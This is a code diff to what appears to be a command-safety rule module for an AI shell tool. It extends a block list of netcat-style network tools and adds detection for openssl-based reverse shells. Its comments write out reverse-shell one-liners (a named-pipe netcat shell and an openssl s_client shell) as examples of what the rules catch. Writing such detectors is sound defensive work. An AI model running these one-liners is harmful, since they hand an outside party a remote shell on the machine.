@@ -12,7 +12,8 @@ from typing import Optional
 from aish.safety.rules.common import HIGH, Ctx
 from aish.safety.program_names import alias
 
-_NETCATS = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "rustcat", "rcat"}
+_NETCATS = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "rustcat", "rcat", "sbd", "cryptcat",
+            "ncat.exe", "nc.exe", "nc64.exe"}
 _NETWORK_READERS = _NETCATS | {"telnet", "socat", "openssl", "websocat", "cryptcat", "sbd"}
 _SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox", "pwsh", "powershell",
            "python", "python3", "perl", "ruby", "php", "cmd", "cmd.exe"}
@@ -46,6 +47,9 @@ def rule_shell_handed(c: Ctx) -> Optional[tuple]:
         if any(_prog(f)[0] in _SHELLS and "-i" in _prog(f)[1] for f in c.chain):
             return HIGH, why  # `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`
         return None
+    if prog == "openssl" and "s_client" in texts and any(_prog(f)[0] in _SHELLS and "-i" in _prog(f)[1]
+                                                          for f in c.chain):
+        return HIGH, why  # `/bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect H:P > /tmp/s`
     if prog in ("awk", "gawk") and any(re.search(r"/inet[46]?/(tcp|udp)/", t) and "|&" in t for t in texts):
         return HIGH, why  # gawk's network files: commands read from the connection, run, answered back
     if prog == "socat":
@@ -66,4 +70,4 @@ def rule_shell_handed(c: Ctx) -> Optional[tuple]:
     return None
 
 
-RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | {"socat", "awk", "gawk"}}
+RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | {"socat", "awk", "gawk", "openssl"}}
